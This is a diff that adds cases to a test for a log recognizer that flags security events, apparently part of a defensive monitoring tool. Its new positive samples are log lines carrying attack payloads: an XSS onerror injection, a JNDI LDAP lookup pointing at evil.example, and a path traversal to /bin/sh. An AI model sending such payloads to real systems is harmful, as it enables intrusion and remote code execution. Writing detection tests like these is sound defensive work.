@@ -3,6 +3,10 @@ import { testRecognition } from './recognition-table.ts';
 
 testRecognition(securityEvent, {
   yes: [
+    '[W 240502 10:00:00 web:2344] 404 GET /login?next=%3Cimg%20src=x%20onerror=alert(1)%3E (203.0.113.9) 0.7ms',
+    '404 GET /oauth?error=$%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D (203.0.113.9)',
+    '"GET /cgi-bin/%2e%2e/%2e%2e/bin/sh HTTP/1.1" 404',
+    'WARN attack prevented by Rack::Protection::HttpOrigin',
     'Invalid user admin from 203.0.113.9 port 40022',
     'fail2ban.actions: NOTICE [sshd] Ban 198.51.100.23',
     'Message: Access denied with code 403 (phase 2)\nOperator GE matched 5 at TX:blocking_inbound_anomaly_score',
@@ -14,6 +18,8 @@ testRecognition(securityEvent, {
     '[client 1.2.3.4] ModSecurity: Access denied with code 403 (phase 2).',
   ],
   no: [
+    ['404 GET /static/img/onload.png (203.0.113.9) 0.7ms', 'none'],
+    ['GET /docs/union-select.html 200', 'none'],
     ['open /etc/passwd: no such file or directory', 'missing_file'],
     ['INFO ddos protection enabled', 'none'],
     ['INFO honeypot module loaded', 'none'],
